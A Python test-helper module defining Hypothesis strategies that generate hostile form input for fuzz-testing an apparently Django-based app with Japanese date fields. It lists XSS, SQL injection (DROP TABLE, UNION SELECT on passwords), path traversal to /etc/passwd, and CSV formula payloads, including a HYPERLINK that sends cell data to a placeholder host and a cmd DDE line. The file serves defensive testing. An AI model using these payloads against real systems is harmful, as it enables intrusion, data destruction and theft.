"""Hypothesis strategies for hostile input: what a careless paste, a broken Excel export or an
attacker puts into a form.

Everything here is text that can travel in an HTTP form (valid UTF-8: no lone surrogates). The
HTML payloads carry markers (``HTML_MARKERS``) that never occur in our own templates, so a test can
tell that a payload reached a page unescaped.
"""

from __future__ import annotations

from hypothesis import strategies as st

# Payloads that would run or load something if a page printed them raw. The markers are what a
# page must never contain afterwards (our templates have no inline script and no on*= handler).
HTML_PAYLOADS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">リンク</a>',
    "javascript:alert(document.cookie)",
    "</textarea><script>alert(2)</script>",
    "<iframe src=//example.invalid></iframe>",
    "{{ request.user }}{% debug %}",
    "<!--",
    "&lt;script&gt;&amp;",
]
HTML_MARKERS = [
    "<script>alert",
    "<img src=x onerror",
    "<svg/onload",
    'href="javascript:',
    "</textarea><script",
    "<iframe src=//example.invalid",
]

SQL_PAYLOADS = [
    "'; DROP TABLE meetings_meeting; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "%00",
    "%' AND 1=0 UNION SELECT password FROM auth_user --",
    "\\x00\\'",
    "1; SELECT pg_sleep(10)",
]

PATH_PAYLOADS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.pdf", "file:///etc/passwd"]

# Cells Excel would run as a formula (CSV / formula injection).
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")',
    "=1+2",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]

# 和暦 that looks like a date and is not one, and other junk a date field may get.
DATE_JUNK = [
    "令和99年13月40日",
    "令和0年1月1日",
    "平成31年5月1日",
    "昭和64年1月8日",
    "明治1年1月1日",
    "R99.99.99",
    "Ｒ２．１３．１",
    "２０２０／０２／３０",
    "2020-02-30",
    "令和元年2月29日",
    "令和元年",
    "年月日",
    "9999999999年1月1日",
    "1e309",
    "-1",
    "00:00",
    "25:61",
    "24:00",
    "１４：００",
    "NaN",
    "-Infinity",
    "1e-400",
    "99999999999999999999",
    "0x10",
    "１０",
    "--1",
    # Dates a calendar accepts that 和暦 cannot show (before 明治) or read back (令和900年).
    "1000/1/1",
    "0001-01-01",
    "1868/10/22",
    "2999/12/31",
    "9999-12-31",
]

WHITESPACE = [" ", "\u3000", "\t", "\n", "\r\n", "\u00a0", "\u2003", "\u200b", "\ufeff"]

CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\u2028", "\u2029"]

# Mixed scripts: RTL and its overrides, zero-width joiners, full- and half-width kana, emoji with
# modifiers and ZWJ sequences, CJK extension B and G, combining marks, halfwidth forms.
MIXED = [
    "\u202eコード\u202c",
    "\u200f\u05e9\u05dc\u05d5\u05dd\u200e",
    "مرحبا",
    "ｶﾞｷﾞｸﾞｹﾞｺﾞ",
    "ガギグゲゴ",
    "ﾊﾟﾋﾟﾌﾟ",
    "１２３ＡＢＣ",
    "👨‍👩‍👧‍👦",
    "👍🏽",
    "🇯🇵",
    "\U00020bb7野家",  # 𠮷
    "\U00030000",
    "e\u0301\u0301\u0301",
    "㍻㋿",
    "①②③",
    "髙﨑",
    "Ω≈ç√∫",
    "\ufffd",
    "\U0010fffd",
]

# Text that may appear in an HTTP form: any code point but the surrogates.
_chars = st.characters(blacklist_categories=("Cs",))

fragment = st.one_of(
    st.sampled_from(HTML_PAYLOADS),
    st.sampled_from(SQL_PAYLOADS),
    st.sampled_from(PATH_PAYLOADS),
    st.sampled_from(FORMULA_PAYLOADS),
    st.sampled_from(DATE_JUNK),
    st.sampled_from(WHITESPACE),
    st.sampled_from(CONTROL),
    st.sampled_from(MIXED),
    st.text(_chars, min_size=1, max_size=12),
)

# A line of fragments glued together.
mixed_text = st.lists(fragment, min_size=1, max_size=6).map("".join)

# Huge input: a fragment repeated to 1k … 100k characters, or one very long line.
huge_text = st.tuples(
    st.sampled_from([*HTML_PAYLOADS[:2], "あ", "𠮷", "a", "\u3000x", "=1+1,"]), st.integers(1_000, 100_000)
).map(lambda pair: (pair[0] * (pair[1] // len(pair[0]) + 1))[: pair[1]])

only_whitespace = st.lists(st.sampled_from(WHITESPACE), min_size=1, max_size=8).map("".join)


def hostile_text(*, allow_huge: bool = True) -> st.SearchStrategy[str]:
    """Random and hostile text: payloads, junk dates, control characters, mixed scripts, blanks."""
    options = [mixed_text, mixed_text, st.text(_chars, max_size=40), only_whitespace, st.just("")]
    if allow_huge:
        options.append(huge_text)
    return st.one_of(*options)


def plain_ok_text(max_size: int = 60) -> st.SearchStrategy[str]:
    """Text a form must accept and keep exactly (no NUL, no surrounding blanks): used where a
    test asserts the round trip."""
    return (
        st.lists(
            st.one_of(
                st.sampled_from(HTML_PAYLOADS + SQL_PAYLOADS + FORMULA_PAYLOADS + MIXED + DATE_JUNK),
                st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=10),
            ),
            min_size=1,
            max_size=4,
        )
        .map("".join)
        .map(lambda s: s.replace("\x00", "").strip()[:max_size].strip())
        .filter(bool)
    )
